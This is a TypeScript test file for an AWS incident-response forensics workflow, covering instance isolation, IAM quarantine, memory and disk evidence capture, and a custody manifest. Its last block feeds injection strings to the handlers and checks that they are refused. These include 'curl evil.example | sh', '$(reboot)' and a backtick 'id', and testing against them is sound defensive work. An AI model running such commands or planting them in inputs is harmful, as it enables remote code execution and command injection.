import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { requireCase } from '../../../bot/core/case-store.js';
import { handler } from '../../../handlers/steps.js';
import { GROUP_NAMES } from '../../../workflows/steps/security-groups.js';
import { REVOKE_POLICY_NAME } from '../../../workflows/steps/restrict-iam.js';
import { KEYS } from '../../../sandbox/aws/index.js';
import { forensicsSettings, kmsKeyForRegion } from '../../../workflows/settings.js';
import { instanceState, MEMBER, openTestCase, REGION, SEEDED, useWorkflowWorld } from './harness.js';

const world = useWorkflowWorld();

async function caseOn(instanceId: string, region = REGION) {
  const record = await openTestCase(instanceId, ['contain'], { region });
  const target = { caseId: record.id, instanceId, account: MEMBER, region };
  await handler({ step: 'recordConfiguration', ...target, acquireMemory: true });
  return target;
}

/** Runs a poll step until it says done (the workflow's Wait loop, without the waits). */
async function pollUntilDone<T extends { done: boolean }>(
  step: string,
  key: string,
  target: object,
  state: T,
): Promise<T> {
  let current = state;
  for (let i = 0; i < 50 && !current.done; i++)
    current = (await handler({ step, ...target, [key]: current })) as T;
  return current;
}

describe('Step: recordConfiguration', () => {
  it('records security groups, Auto Scaling group, target group, load balancer and volumes before anything changes', async () => {
    const target = await caseOn(SEEDED.instances.autoScaled);

    const config = (await requireCase(target.caseId)).originalConfig as any;
    const { enis } = instanceState(world, SEEDED.instances.autoScaled);
    expect(config.networkInterfaces.map((e: any) => e.groups)).toEqual(enis.map((e) => e.groupIds));
    expect(config.autoScalingGroup).toBe(SEEDED.autoScalingGroup);
    expect(config.targetGroups.map((t: any) => t.arn.split('/')[1])).toEqual([SEEDED.targetGroupName]);
    expect(config.classicLoadBalancers).toEqual([SEEDED.classicLoadBalancer]);
    expect(config.volumes.length).toBeGreaterThan(0);
  });

  it('plans memory before isolation in a VPC without SSM/S3 endpoints', async () => {
    const record = await openTestCase(SEEDED.instances.noEndpoints, ['contain']);

    const plan = (await handler({
      step: 'recordConfiguration',
      caseId: record.id,
      instanceId: SEEDED.instances.noEndpoints,
      account: MEMBER,
      region: REGION,
      acquireMemory: true,
    })) as any;

    expect(plan).toMatchObject({ HasEndpoints: false, MemoryFirst: true });
  });
});

describe('Step: preserveInstance', () => {
  it('turns termination protection on, shutdown to stop, keeps every volume on termination and tags the instance', async () => {
    const target = await caseOn(SEEDED.instances.demo);

    await handler({ step: 'preserveInstance', ...target });

    const { instance } = instanceState(world, SEEDED.instances.demo);
    expect(instance.disableApiTermination).toBe(true);
    expect(instance.shutdownBehavior).toBe('stop');
    expect(instance.blockDevices.every((b) => !b.deleteOnTermination)).toBe(true);
    expect(instance.tags).toMatchObject({ SecurityIncidentStatus: 'Preserved', 'ir-case-id': target.caseId });
  });
});

describe('Step: detachInstance', () => {
  it('leaves the Auto Scaling group without lowering its desired capacity, and every load balancer', async () => {
    const target = await caseOn(SEEDED.instances.autoScaled);
    const { r } = instanceState(world, SEEDED.instances.autoScaled);
    const desired = r.autoScalingGroups.get(SEEDED.autoScalingGroup)!.desiredCapacity;

    await handler({ step: 'detachInstance', ...target });

    const asg = r.autoScalingGroups.get(SEEDED.autoScalingGroup)!;
    expect(asg.instances.map((i) => i.instanceId)).not.toContain(SEEDED.instances.autoScaled);
    expect(asg.desiredCapacity).toBe(desired);
    for (const tg of r.targetGroups.values())
      expect(tg.targets.map((t) => t.id)).not.toContain(SEEDED.instances.autoScaled);
    expect(r.loadBalancers.get(SEEDED.classicLoadBalancer)!.instanceIds).not.toContain(
      SEEDED.instances.autoScaled,
    );
  });
});

describe('Step: isolateNetwork', () => {
  it('moves every ENI into the isolation group, which allows nothing, and disassociates the Elastic IP', async () => {
    const target = await caseOn(SEEDED.instances.multiEni);

    await handler({ step: 'isolateNetwork', ...target, keepEndpoints: false });

    const { enis, groups, r } = instanceState(world, SEEDED.instances.multiEni);
    expect(enis.length).toBe(3);
    for (const eni of enis) {
      expect(eni.groupIds).toHaveLength(1);
      const group = groups(eni.groupIds[0]!)!;
      expect(group.groupName).toBe(GROUP_NAMES.isolation);
      expect(group.ingress).toEqual([]);
      expect(group.egress).toEqual([]);
      expect(group.tags['forensics-bot:purpose']).toBe('isolation');
    }
    expect([...r.addresses.values()].filter((a) => a.instanceId === SEEDED.instances.multiEni)).toEqual([]);
    const record = await requireCase(target.caseId);
    expect(record.isolation).toMatchObject({ status: 'isolated' });
  });

  it('reuses the isolation group of the VPC for the next instance', async () => {
    const first = instanceState(world, SEEDED.instances.multiEni).enis[0]!.groupIds[0];
    const target = await caseOn(SEEDED.instances.autoScaledPeer);

    await handler({ step: 'isolateNetwork', ...target, keepEndpoints: false });

    const { enis } = instanceState(world, SEEDED.instances.autoScaledPeer);
    expect(enis[0]!.groupIds).toEqual([first]);
  });

  it('keeps only HTTPS to the VPC endpoints while memory is to be captured', async () => {
    const target = await caseOn(SEEDED.instances.demo);
    const { r } = instanceState(world, SEEDED.instances.demo);
    const endpointGroups = new Set([...r.endpoints.values()].flatMap((e) => e.groupIds));

    await handler({ step: 'isolateNetwork', ...target, keepEndpoints: true });

    const { enis, groups } = instanceState(world, SEEDED.instances.demo);
    const group = groups(enis[0]!.groupIds[0]!)!;
    expect(group.groupName).toBe(GROUP_NAMES['isolation-endpoints']);
    expect(group.ingress).toEqual([]);
    expect(group.egress.length).toBeGreaterThan(0);
    for (const rule of group.egress) {
      expect(rule).toMatchObject({ protocol: 'tcp', fromPort: 443, toPort: 443 });
      expect(rule.cidr).toBeUndefined();
      if (rule.groupId) expect(endpointGroups.has(rule.groupId)).toBe(true);
    }
  });
});

describe('Step: restrictIam', () => {
  it('swaps in the quarantine profile and revokes the original role sessions issued before now', async () => {
    const target = await caseOn(SEEDED.instances.autoScaledPeer);

    await handler({ step: 'restrictIam', ...target, mode: 'quarantine' });

    const { r } = instanceState(world, SEEDED.instances.autoScaledPeer);
    const association = [...r.associations.values()].find(
      (a) => a.instanceId === SEEDED.instances.autoScaledPeer && a.state === 'associated',
    );
    expect(association?.profileArn).toMatch(/instance-profile\/ForensicsBot-Quarantine$/);
    const config = (await requireCase(target.caseId)).originalConfig as any;
    const role = world.org.world.account(MEMBER).roles.get(config.instanceProfile.roles[0])!;
    const policy = JSON.parse(role.inlinePolicies[REVOKE_POLICY_NAME]!);
    expect(policy.Statement[0]).toMatchObject({ Effect: 'Deny', Action: '*' });
    expect(policy.Statement[0].Condition.DateLessThan['aws:TokenIssueTime']).toBeDefined();
  });
});

describe('Steps: startMemoryCapture and pollMemoryCapture', () => {
  it('streams the image of an isolated instance through the VPC endpoints as its quarantine profile, then verifies it', async () => {
    const target = await caseOn(SEEDED.instances.demo);
    await handler({ step: 'isolateNetwork', ...target, keepEndpoints: true });

    const started = (await handler({ step: 'startMemoryCapture', ...target })) as any;
    const done = await pollUntilDone('pollMemoryCapture', 'memory', target, started);
    const verified = (await handler({ step: 'verifyEvidence', ...target, memory: done })) as any;

    const record = await requireCase(target.caseId);
    const artifact = record.artifacts.find((a) => a.kind === 'memory')!;
    const bucket = world.org.world.buckets.get(world.org.settings.evidenceBucket)!;
    const versions = bucket.objects.get(done.key as string)!;
    const object = versions[versions.length - 1]! as any;
    expect(artifact.uri).toBe(`s3://${bucket.name}/${done.key}`);
    expect(done.key).toMatch(new RegExp(`^${target.caseId}/memory/`));
    expect(artifact.sha256).toBe(createHash('sha256').update(object.body).digest('hex'));
    expect(artifact.bytes).toBe(object.body.length);
    expect(artifact.details).toMatchObject({
      versionId: object.versionId,
      objectLock: { mode: 'GOVERNANCE' },
    });
    expect(verified.versionId).toBe(object.versionId);
    // written with the instance's own (quarantine) credentials: no upload session was ever issued
    expect(object.uploadedBy).toBe(
      `arn:aws:sts::${MEMBER}:assumed-role/ForensicsBot-Quarantine/${SEEDED.instances.demo}`,
    );
    expect(
      [...world.org.world.sessions.values()].some((s) => s.sessionName.startsWith('ForensicsBot-Memory-')),
    ).toBe(false);
  });

  it('says the SSM agent is offline, naming the instance', async () => {
    const target = await caseOn(SEEDED.instances.unmanaged);

    await expect(handler({ step: 'startMemoryCapture', ...target })).rejects.toMatchObject({
      name: 'SsmAgentOfflineError',
      message: expect.stringContaining(SEEDED.instances.unmanaged),
    });
  });
});

describe('Steps: disk acquisition', () => {
  it('copies every volume into the forensics account under its key and deletes the intermediates', async () => {
    const target = await caseOn(SEEDED.instances.demo);

    let disk = (await handler({ step: 'snapshotVolumes', ...target })) as any;
    disk = await pollUntilDone('pollSnapshots', 'disk', target, disk);
    disk = await handler({ step: 'reencryptSnapshots', ...target, disk });
    disk = await pollUntilDone('pollSnapshots', 'disk', target, disk);
    disk = await handler({ step: 'copySnapshots', ...target, disk });
    disk = await pollUntilDone('pollSnapshots', 'disk', target, disk);
    await handler({ step: 'recordSnapshots', ...target, disk, retainArtefacts: false });

    const record = await requireCase(target.caseId);
    const copies = record.artifacts.filter((a) => a.kind === 'disk-snapshot');
    const forensics = world.org.world.region(world.org.settings.forensicsAccount, REGION);
    expect(copies).toHaveLength(instanceState(world, SEEDED.instances.demo).instance.blockDevices.length);
    for (const copy of copies) {
      const snapshot = forensics.snapshots.get(copy.details!.snapshotId as string)!;
      expect(snapshot).toMatchObject({ state: 'completed', encrypted: true, deleted: false });
      expect(snapshot.kmsKeyId).toBe(KEYS.forensics(REGION));
    }
    const member = instanceState(world, SEEDED.instances.demo).r;
    const leftovers = [...member.snapshots.values()].filter(
      (s) => s.tags['ir-case-id'] === target.caseId && !s.deleted,
    );
    expect(leftovers).toEqual([]);
  });
});

/** Runs the disk acquisition steps as the acquire-disk workflow does, up to the recorded artifacts. */
async function acquireDisk(target: { caseId: string; region: string }) {
  let disk = (await handler({ step: 'snapshotVolumes', ...target })) as any;
  disk = await pollUntilDone('pollSnapshots', 'disk', target, disk);
  disk = await handler({ step: 'reencryptSnapshots', ...target, disk });
  disk = await pollUntilDone('pollSnapshots', 'disk', target, disk);
  disk = await handler({ step: 'copySnapshots', ...target, disk });
  disk = await pollUntilDone('pollSnapshots', 'disk', target, disk);
  await handler({ step: 'recordSnapshots', ...target, disk, retainArtefacts: false });
  // Cases on one instance share a record (one open case per instance): keep this run's copies only.
  const copyIds: string[] = disk.volumes.map((v: { copyId: string }) => v.copyId);
  const record = await requireCase(target.caseId);
  const forensics = world.org.world.region(world.org.settings.forensicsAccount, target.region);
  return record.artifacts
    .filter((a) => a.kind === 'disk-snapshot' && copyIds.includes(a.details!.snapshotId as string))
    .map((a) => ({ artifact: a, snapshot: forensics.snapshots.get(a.details!.snapshotId as string) }));
}

/** Runs `act` with the two key settings replaced (undefined: unset), then puts them back. */
async function withKeys<T>(keys: { snapshot?: string; forensics?: string }, act: () => Promise<T>) {
  const before = {
    SNAPSHOT_KMS_KEY_ARN: process.env.SNAPSHOT_KMS_KEY_ARN,
    FORENSICS_KMS_KEY_ARN: process.env.FORENSICS_KMS_KEY_ARN,
  };
  const set = (name: keyof typeof before, value: string | undefined) => {
    if (value === undefined) delete process.env[name];
    else process.env[name] = value;
  };
  set('SNAPSHOT_KMS_KEY_ARN', keys.snapshot);
  set('FORENSICS_KMS_KEY_ARN', keys.forensics);
  forensicsSettings.reset();
  try {
    return await act();
  } finally {
    set('SNAPSHOT_KMS_KEY_ARN', before.SNAPSHOT_KMS_KEY_ARN);
    set('FORENSICS_KMS_KEY_ARN', before.FORENSICS_KMS_KEY_ARN);
    forensicsSettings.reset();
  }
}

describe('Steps: disk acquisition in the case region (KMS keys are regional)', () => {
  const bothRegions = `${KEYS.forensics('us-east-1')}, ${KEYS.forensics('eu-west-1')}`;

  it('a case in eu-west-1 gets its snapshots copied into the forensics account in eu-west-1, under that region key', async () => {
    const target = await caseOn(SEEDED.instances.euWest, 'eu-west-1');

    const copies = await withKeys({ snapshot: bothRegions, forensics: bothRegions }, () =>
      acquireDisk(target),
    );

    expect(copies).toHaveLength(1);
    expect(copies[0]!.snapshot).toMatchObject({
      region: 'eu-west-1',
      ownerId: world.org.settings.forensicsAccount,
      state: 'completed',
      kmsKeyId: KEYS.forensics('eu-west-1'),
    });
    expect(copies[0]!.artifact.uri).toMatch(/^arn:aws:ec2:eu-west-1:222222222222:snapshot\/snap-/);
    expect(copies[0]!.artifact.details?.kmsKeyId).toBe(KEYS.forensics('eu-west-1'));
  });

  it('without a snapshot key for eu-west-1, an aws/ebs snapshot is not re-encrypted with the us-east-1 key: the step names the region and the setting', async () => {
    const target = await caseOn(SEEDED.instances.euWest, 'eu-west-1');

    const failure = withKeys({ snapshot: KEYS.forensics('us-east-1') }, () => acquireDisk(target));

    await expect(failure).rejects.toMatchObject({
      name: 'StepNotConfiguredError',
      message: expect.stringMatching(/SNAPSHOT_KMS_KEY_ARN has no key for eu-west-1/),
    });
    const member = world.org.world.region(MEMBER, 'eu-west-1');
    expect(
      [...member.snapshots.values()].filter(
        (s) => s.copiedFrom && !s.deleted && s.tags['ir-case-id'] === target.caseId,
      ),
    ).toEqual([]);
  });

  it('without any key for the region, the forensics copy falls back to that account default EBS key there', async () => {
    // The multi-ENI instance's volume is unencrypted: nothing to re-encrypt, only the copy needs a key.
    const target = await caseOn(SEEDED.instances.multiEni);

    const copies = await withKeys({ snapshot: KEYS.forensics('eu-west-1') }, () => acquireDisk(target));

    expect(copies).toHaveLength(1);
    expect(copies[0]!.snapshot).toMatchObject({
      region: 'us-east-1',
      encrypted: true,
      kmsKeyId: KEYS.awsEbs(world.org.settings.forensicsAccount, 'us-east-1'),
    });
    expect(copies[0]!.artifact.details?.kmsKeyId).toBe(KEYS.awsEbs('222222222222', 'us-east-1'));
  });

  it('a multi-region key given once serves every region: its ARN is rewritten to the case region', async () => {
    // Prepare: a multi-region key of the forensics account with a replica in each region
    const id = 'mrk-0123456789abcdef0123456789abcdef';
    for (const region of ['us-east-1', 'eu-west-1'])
      world.org.world.region('222222222222', region).kmsKeys.set(id, {
        keyId: id,
        arn: `arn:aws:kms:${region}:222222222222:key/${id}`,
        account: '222222222222',
        region,
        aliases: [],
        manager: 'CUSTOMER',
        description: 'multi-region snapshot key',
        allowedAccounts: [MEMBER],
      });
    const target = await caseOn(SEEDED.instances.euWest, 'eu-west-1');

    const copies = await withKeys({ snapshot: `arn:aws:kms:us-east-1:222222222222:key/${id}` }, () =>
      acquireDisk(target),
    );

    expect(copies[0]!.snapshot).toMatchObject({
      region: 'eu-west-1',
      kmsKeyId: `arn:aws:kms:eu-west-1:222222222222:key/${id}`,
    });
  });

  it('picks the key of the region, rewrites a multi-region key, and uses no key of another region', () => {
    const mrk = 'arn:aws:kms:us-east-1:222222222222:key/mrk-1234abcd';
    const alias = 'arn:aws:kms:eu-west-1:222222222222:alias/forensics-bot-snapshots';
    expect(kmsKeyForRegion(`${KEYS.forensics('us-east-1')},${alias}`, 'eu-west-1')).toBe(alias);
    expect(kmsKeyForRegion(KEYS.forensics('us-east-1'), 'eu-west-1')).toBeUndefined();
    expect(kmsKeyForRegion(`${alias},${mrk}`, 'ap-southeast-2')).toBe(
      'arn:aws:kms:ap-southeast-2:222222222222:key/mrk-1234abcd',
    );
    expect(kmsKeyForRegion(`${alias},${mrk}`, 'eu-west-1')).toBe(alias);
    expect(kmsKeyForRegion(undefined, 'us-east-1')).toBeUndefined();
  });

  it('refuses a key setting with two keys for one region, or something that is not a KMS ARN', async () => {
    const twice = `${KEYS.forensics('us-east-1')},${KEYS.awsEbs('222222222222', 'us-east-1')}`;
    await expect(withKeys({ snapshot: twice }, async () => forensicsSettings())).rejects.toThrow(
      /SNAPSHOT_KMS_KEY_ARN.*more than one key for us-east-1/s,
    );
    await expect(
      withKeys({ forensics: 'arn:aws:iam::222222222222:role/Nope' }, async () => forensicsSettings()),
    ).rejects.toThrow(/FORENSICS_KMS_KEY_ARN.*not a KMS key or alias ARN/s);
  });
});

describe('Step: writeManifest', () => {
  it('writes the chain-of-custody manifest and stores its SHA-256 in the case', async () => {
    const target = await caseOn(SEEDED.instances.demo);

    const out = (await handler({ step: 'writeManifest', caseId: target.caseId })) as any;

    const bucket = world.org.world.buckets.get(world.org.settings.evidenceBucket)!;
    const versions = bucket.objects.get(`${target.caseId}/manifest.json`)!;
    const body = (versions[versions.length - 1] as any).body as Buffer;
    const record = await requireCase(target.caseId);
    expect(record.manifest).toEqual({
      uri: out.uri,
      sha256: createHash('sha256').update(body).digest('hex'),
      // issue 11: a conditional write, and the version it made is recorded
      versionId: versions[versions.length - 1]!.versionId,
    });
    expect(JSON.parse(body.toString('utf8'))).toMatchObject({
      caseId: target.caseId,
      requester: { userId: 'U0ALICE' },
    });
  });
});

describe('Steps: ids from outside', () => {
  it.each([
    ['instanceId', 'i-0a1b2c3d4e5f60718; curl evil.example | sh'],
    ['instanceId', 'i-$(reboot)'],
    ['caseId', 'CASE-20261123-AB12`id`'],
    ['account', '333333333333 --profile other'],
    ['region', 'us-east-1 && true'],
  ])('refuses %s %j before any AWS call, naming the field', async (field, value) => {
    const record = await openTestCase(SEEDED.instances.demo, ['analyze']);
    const target = { caseId: record.id, instanceId: SEEDED.instances.demo, account: MEMBER, region: REGION };
    const before = world.org.calls.length;

    await expect(handler({ step: 'startMemoryCapture', ...target, [field]: value })).rejects.toMatchObject({
      name: 'InvalidInputError',
      message: expect.stringContaining(field),
    });
    expect(world.org.calls.length).toBe(before);
  });
});
